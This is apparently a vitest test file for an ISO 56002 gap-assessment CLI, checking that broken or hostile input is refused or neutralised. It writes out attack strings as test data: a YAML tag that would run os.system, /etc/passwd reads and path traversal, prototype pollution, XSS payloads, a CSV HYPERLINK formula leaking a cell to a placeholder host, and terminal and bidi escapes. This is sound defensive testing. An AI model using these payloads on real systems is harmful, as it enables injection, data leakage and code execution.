/** Hostile and broken input through the whole command: the right code, few lines, nothing raw, nothing thrown. */
import { describe, expect, it } from 'vitest'
import { run, small } from '../cli/run.ts'

const head =
  'ims-gap: 1\nframework: iso-56002:2019\norganization: { name: X, kind: established, size: small }\n'
const practice = (text: string) => `${head}practices:\n${text}\n`
const bytes = (...numbers: number[]) => Uint8Array.from(numbers)
const utf16 = (text: string, bom: boolean) => Buffer.from((bom ? '\ufeff' : '') + text, 'utf16le')

const refused: [string, string | Uint8Array, RegExp][] = [
  ['an empty file', '', /holds no data|empty/],
  ['only blanks and comments', '  \n# nothing\n\n', /holds no data/],
  ['only a marker', '---\n', /holds no data/],
  ['null', 'null\n', /holds no data/],
  ['UTF-16 with a byte order mark', utf16(small, true), /UTF-16/],
  ['UTF-16 without one', utf16(small, false), /UTF-16/],
  ['a byte that is no UTF-8', Buffer.concat([Buffer.from(head), bytes(0x23, 0xff, 0x0a)]), /UTF-8/],
  ['a character cut in two', Buffer.concat([Buffer.from(head), bytes(0x23, 0xe2, 0x82)]), /UTF-8/],
  ['NUL', `${head}# a\u0000b\n`, /NUL|U\+0000/],
  ['an escape character in a comment', `${head}# \u001b[2J\n`, /ESC|U\+001B/],
  ['an escape written in a key', `${head}"a\\e[2J": 1\n`, /U\+001B|invisible/],
  ['half of a character', `${head}targets: { principles: { "\\uD800": 1 } }\n`, /half/],
  ['a direction mark in a key', `${head}"cul\u202eture": 1\n`, /U\+202E|invisible/],
  ['lone carriage returns', head.replaceAll('\n', '\r'), /CR/],
  ['more than a mebibyte', `${head}# ${'x'.repeat(1024 * 1024)}\n`, /MiB|large|bytes/],
  ['a gzip file', bytes(0x1f, 0x8b, 8, 0, 0, 0, 0, 0), /gzip/i],
  ['a picture', bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a), /PNG/],
  ['a spreadsheet', Buffer.concat([bytes(0x50, 0x4b, 3, 4), Buffer.from('xl/workbook.xml')]), /XLSX|ZIP/i],
  ['a PDF', '%PDF-1.7\n', /PDF/],
  ['typographic quotes', head.replace('name: X', 'name: “X”'), /quote/],
  ['a tab for indentation', practice('\t4.1.2: { level: 2 }'), /tab/],
  ['the same key twice', practice('  4.1.2: { level: 2 }\n  4.1.2: { level: 3 }'), /twice/],
  ['an open quote', practice('  4.1.2: { practice: "open }'), /quote/],
  ['an open bracket', practice('  4.1.2: { level: 2'), /bracket|brace|"\{"|not closed/],
  ['a missing blank', `${head}practices:{}\n`, /space|blank/],
  ['two documents', `${small}---\n${small}`, /second document/],
  ['deep nesting', `${head}innovation: ${'['.repeat(100_000)}`, /deep|nested/],
  ['very many entries', `innovation:\n${'- \n'.repeat(300_000)}`, /more than|mapping|values/],
  ['tags without end', `a: ${'!!str '.repeat(100_000)}x\n`, /tag/i],
  ['anchors without end', `a: ${'&a '.repeat(100_000)}x\n`, /anchor/i],
  [
    'very many keys',
    Array.from({ length: 40_000 }, (_, index) => `k${index}: 1`).join('\n'),
    /keys|more than/,
  ],
  ['very many mistakes', `${head}${'a: 1\n'.repeat(20_000)}`, /\+?\d[\d,]* more/],
  ['aliases that multiply', 'a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n', /anchor/i],
  ['an alias of itself', 'a: &a [*a]\n', /anchor|alias/i],
  ['an alias of nothing', 'a: *nothing\n', /alias/i],
  ['a merge key', `${head}<<: { a: 1 }\n`, /merge/],
  ['a tag that would run something', 'a: !!python/object/apply:os.system ["id"]\n', /tag/i],
  ['a tag that would read something', 'a: !include /etc/passwd\n', /tag/i],
  ['a directive', `%YAML 1.1\n---\n${small}`, /directive/],
  ['a list as key', '? [1, 2]\n: x\n', /key/],
  ['a prototype', `${head}__proto__: { polluted: 1 }\n`, /__proto__/],
  ['a constructor', `${head}constructor: { prototype: { polluted: 1 } }\n`, /constructor/],
  ['an ordinary name of every object', `${head}toString: 1\n`, /unknown key/],
  ['a list as root', '- a\n- b\n', /expected a mapping/],
  ['a number as root', '42\n', /expected a mapping/],
  ['a level with a point', practice('  4.1.2: { level: 3.0 }'), /whole number/],
  ['a level in quotes', practice('  4.1.2: { level: "3" }'), /quotes/],
  ['a level in other digits', practice('  4.1.2: { level: ٣ }'), /whole number|digits|3/],
  ['a level that is no number', practice('  4.1.2: { level: .nan }'), /whole number/],
  ['a level beyond all numbers', practice(`  4.1.2: { level: ${'9'.repeat(400)} }`), /whole number/],
  ['a yes where true is meant', practice('  4.1.2: { level: 1, flagged: yes }'), /true/],
  ['a day that does not exist', practice('  4.1.2: { level: 1, reviewed: 2024-02-30 }'), /does not exist/],
  ['a week for a day', practice('  4.1.2: { level: 1, reviewed: 2024-W01 }'), /YYYY-MM-DD/],
  ['a newer format', small.replace('ims-gap: 1', 'ims-gap: 2'), /upgrade/],
  ['a list for a mapping', `${head}practices: []\n`, /mapping/],
  ['a schema in the document', `$schema: file:///etc/passwd\n${head}`, /never opened/],
  [
    'evidence outside',
    practice('  4.1.2: { level: 1, evidence: [{ file: ../../etc/passwd, kind: record }] }'),
    /\.\.|outside|relative/,
  ],
  [
    'evidence on a drive',
    practice("  4.1.2: { level: 1, evidence: [{ file: 'C:\\x', kind: record }] }"),
    /relative|drive/,
  ],
  [
    'an address that runs',
    practice("  4.1.2: { level: 1, evidence: [{ url: 'javascript:alert(1)', kind: record }] }"),
    /http/,
  ],
  [
    'not applicable with a level',
    practice('  7.8: { level: 1, notApplicable: { kind: not-relevant, reason: Nothing to protect. } }'),
    /notApplicable|not applicable/,
  ],
  [
    'too many practices',
    practice(Array.from({ length: 2_001 }, (_, index) => `  9.${index}.1: { level: 1 }`).join('\n')),
    /2,000|unknown|not an element/,
  ],
  ['another edition', small.replace(':2019', ':2013'), /edition|iso-56002:2019/],
]

describe('input that cannot be used', () => {
  it.each(refused)('%s is refused with few words and code 3', async (_, stdin, words) => {
    const { code, stdout, stderr } = await run(['assess', '-'], { stdin })
    expect({ code, stdout }).toEqual({ code: 3, stdout: '' })
    expect(stderr).toMatch(words)
    expect(stderr.split('\n').length).toBeLessThanOrEqual(320)
    expect(stderr.length).toBeLessThan(60_000)
    expect(stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u2069]/)
    expect(stderr).not.toMatch(/\n\s+at \w|node_modules|instancePath|must match|oneOf/)
  })
})

const hostile = [
  '</script><script>alert(1)</script>',
  '=HYPERLINK("http://x?"&A1)',
  '+1',
  '@SUM(A1)',
  '| a | b |\n---\n',
  '[x](javascript:alert(1)) ![](http://track.example/x) @everyone #123',
  '<details><img src=x onerror=alert(1)>',
  '::add-mask::x\n##[group]y',
  '\u001b[2J\u001b]0;title\u0007',
  '\u202eevil\u2066 \u200b\u{e0041}',
  '%s%n ${process.env.HOME} {{constructor}} {6.2.1}',
  'a'.repeat(20_000),
  `e${'\u0301'.repeat(1000)}`,
  '👩‍👩‍👧‍👦'.repeat(200),
  '日本語の会社',
]

describe('text that means something elsewhere', () => {
  it.each(hostile.map((text) => [text.slice(0, 30), text] as const))(
    '%j goes through every format as text',
    async (_, text) => {
      const name = JSON.stringify(text)
      const stdin = `ims-gap: 1\nframework: iso-56002:2019\norganization: { name: ${name}, kind: established, size: small }
practices: { 6.2.1: { level: 2, owner: ${name}, practice: ${name} }, 6.2.2: { level: 0 } }
objectives: [{ id: o1, title: ${name} }]\n`
      for (const format of ['terminal', 'json', 'markdown', 'csv']) {
        const { code, stdout, stderr } = await run(['assess', '-', '--all', '--format', format], { stdin })
        expect({ code, stderr }).toEqual({ code: 0, stderr: '' })
        expect(stdout).not.toMatch(
          /[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/,
        )
        if (format === 'json') expect(JSON.parse(stdout).organization.name).toBe(text)
        if (format === 'csv') expect(stdout).not.toMatch(/(^|,|\n)"?[=+@]/)
        if (format === 'markdown') expect(stdout).not.toMatch(/(?<!\\)<(script|img|details)|(?<!\\)\]\(/)
        if (format !== 'json') expect(stdout).not.toMatch(/^(::|##\[)/m)
      }
    },
  )
})
